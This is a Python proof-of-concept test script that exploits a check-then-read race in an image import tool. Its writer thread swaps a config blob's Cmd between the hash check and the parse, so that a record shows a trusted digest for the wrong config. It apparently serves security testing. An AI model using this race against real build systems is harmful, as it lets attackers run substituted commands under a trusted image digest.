#!/usr/bin/env python3
# The config blob is read twice: read_doc (source.c) hashes it through verify() and then
# preads it again to parse. Whoever can write the layout while the build runs (a shared
# cache, another user's directory) swaps its bytes in place between the two reads: the
# digest checked is the trusted config's, the config applied is another (its Cmd, its
# diff_ids, and so every layer). kbox images and inspect then show the trusted digest for
# an image that is not it. A writer flips the config between two versions of one length
# while imports run; FINDING when a record carries the other version's Cmd.
# usage: config-race.py [TRIES]   (default 300)
import json
import os
import subprocess
import sys
import tempfile
import threading
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from lib import *

tries = int(sys.argv[1]) if len(sys.argv) > 1 else 300
d = tempfile.mkdtemp(prefix='img13-race.')
lay = os.path.join(d, 'lay')
pad_label = 'p' * (4 << 20)  # a big config: hashing it takes a while
oci_layout(lay, [tar(file('x', 'y'))], config={'Cmd': ['/bin/trusted'], 'Labels': {'pad': pad_label}})
m = json.load(open(os.path.join(lay, 'index.json')))['manifests'][0]['digest'][7:]
ch = json.load(open(os.path.join(lay, 'blobs', 'sha256', m)))['config']['digest'][7:]
cpath = os.path.join(lay, 'blobs', 'sha256', ch)
good = open(cpath, 'rb').read()
evil = good.replace(b'/bin/trusted', b'/bin/evil!!!')
assert len(evil) == len(good) and evil != good
stop = threading.Event()


def flip():
    fd = os.open(cpath, os.O_WRONLY)
    while not stop.is_set():
        os.pwrite(fd, evil, 0)
        os.pwrite(fd, good, 0)
    os.close(fd)


th = threading.Thread(target=flip)
th.start()
won = 0
stats = {}
try:
    for i in range(tries):
        out = os.path.join(d, 'o.cpio')
        rc, err, _ = run_import(['-o', out, 'race=oci:' + lay], 60)
        key = 'ok' if rc == 0 else 'refused'
        if rc == 0:
            rec = [e for e in cpio_list(out) if e[0] == b'images/race.json'][0][6]
            if b'/bin/evil' in rec:
                won += 1
                key = 'SWAPPED'
                if won == 1:
                    r = json.loads(rec)
                    print('a record with digest %s and Cmd %s' % (r['digest'], r['config']['Cmd']))
        stats[key] = stats.get(key, 0) + 1
        if won >= 3:
            break
finally:
    stop.set()
    th.join()
print('tries:', stats)
sys.exit(verdict(won > 0, 'the config parsed was not the config hashed in %d of %d imports' % (won, sum(stats.values()))))
